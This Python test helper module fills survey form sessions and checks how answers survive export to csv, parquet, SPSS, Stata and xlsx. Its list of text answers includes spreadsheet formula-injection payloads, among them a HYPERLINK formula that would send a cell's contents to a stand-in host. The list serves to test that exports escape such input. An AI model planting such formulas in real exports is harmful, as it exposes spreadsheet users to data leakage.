"""Records made as an interviewer makes them: a real `FormSession` per record, every
visible field answered (text with accents, CJK, emoji and the characters that break
files or run as formulas), finalised, flattened as the store keeps answers, sent by a
fake device and merged into a real central store."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import uuid
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pyreadstat

from qi_capture.central.store import CentralStore
from qi_capture.forms.expressions import ExpressionError
from qi_capture.forms.model import Form
from qi_capture.forms.session import AnswerError, FormSession, GeoPoint
from qi_capture.services.answers import flatten
from tests.core.central.conftest import PASSPHRASE
from tests.core.central.helpers import FakeDevice

NOW = dt.datetime(2024, 3, 1, 9, 30, tzinfo=dt.UTC)

#: Text answers, in turn: each must come back as entered (csv, parquet, sav, dta) or as
#: inert, visibly escaped text (xlsx).
TEXTS = [
    "Trust Ünïcödé — 東京 🙂",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "line one\rline two\nline three",
    "tab\there, \"quoted\", comma",
    "+44 20 7946 0000",
    "-minus first",
    "@SUM(A1:A2)",
    "vertical\x0btab from Word",
    "nul\x00inside",
    "plain answer",
]


def _value(session: FormSession, path: str, i: int) -> object:
    element = session.node(path).element
    if element.type in ("select_one", "select_multiple", "rank"):
        try:
            offered = [name for name, _ in session.choices(path)]
        except ExpressionError:  # a choice filter the engine cannot run
            return None
        if not offered:
            return None
        if element.type == "select_one":
            return offered[i % len(offered)]
        if element.type == "rank":
            return offered
        picked = offered[i % len(offered): i % len(offered) + 2] or offered[:1]
        if "other" in offered and i % 2 == 0 and "other" not in picked:
            picked.append("other")
        return picked
    if element.type == "acknowledge":
        return True
    if element.data_type == "string" and element.type in ("text", "string"):
        return TEXTS[i % len(TEXTS)]
    return {
        "int": i % 7 + 1,
        "decimal": Decimal("1.5") + i,
        "date": dt.date(2024, 1, 1) + dt.timedelta(days=i),
        "time": dt.time(10, i % 60),
        "dateTime": dt.datetime(2024, 1, 15, 10, i % 60, tzinfo=dt.UTC),
        "geopoint": GeoPoint(6.3, -10.8),
        "binary": "photo.jpg",
    }.get(element.data_type, "text")


def fill_session(form: Form, i: int) -> dict[str, object]:
    """One record's answers, as the store keeps them (every visible field answered,
    except records 1, 5, 9... leave the text fields blank)."""
    session = FormSession(form, clock=lambda: NOW, random_source=lambda: 0.25)
    screen = session.current_screen()
    guard = 0
    while screen is not None and guard < 500:
        guard += 1
        for _ in range(2):  # a second pass for fields the first pass made relevant
            for path in session.current_screen().fields:  # type: ignore[union-attr]
                if session.is_read_only(path) or not session.is_relevant(path):
                    continue
                if session.get(path) not in (None, "", []):
                    continue
                element = session.node(path).element
                if i % 4 == 1 and element.type == "text":
                    continue  # left blank
                value = _value(session, path, i)
                if value is None:
                    continue
                try:
                    session.set(path, value)
                except AnswerError:
                    continue
        screen = session.next_screen()
    return dict(flatten(session.to_submission(finalise=True)["data"]))


def fill_central(central: CentralStore, form: Form, count: int) -> dict[str, dict[str, object]]:
    """``count`` records filled through sessions, merged; returns record id -> answers."""
    device = FakeDevice("Laptop")
    central.enrol(device.id, name=device.name, fingerprint=device.fingerprint,
                  public_key=device.public_key)
    central.add_form(study_id="qi", form_id=form.form_id, version=form.version or "1",
                     title=form.title or form.form_id, sha256=form.source_sha256,
                     compiled_json=json.dumps(form.to_json()))
    answers = {str(uuid.uuid4()): fill_session(form, i) for i in range(count)}
    revisions = [device.revision(uuid.UUID(rid), a, version=form.version or "1",  # type: ignore[arg-type]
                                 form_id=form.form_id) for rid, a in answers.items()]
    central.merge(device.bundle(revisions))
    return answers


def open_central(admin_template: Path, folder: Path) -> CentralStore:
    shutil.copytree(admin_template, folder)
    return CentralStore.open(folder, PASSPHRASE)


def read_table(path: Path) -> pd.DataFrame:
    """Any exported table, read by the library an analyst would use."""
    if path.suffix == ".csv":
        return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False,
                           na_values=[])
    if path.suffix == ".parquet":
        return pd.read_parquet(path)
    if path.suffix == ".sav":
        return pyreadstat.read_sav(str(path))[0]
    if path.suffix == ".dta":
        return pyreadstat.read_dta(str(path))[0]
    raise AssertionError(path)


def xlsx_sheets(path: Path) -> Iterator[tuple[str, pd.DataFrame]]:
    yield from pd.read_excel(path, sheet_name=None, dtype=str).items()


Reader = Callable[[Path], pd.DataFrame]
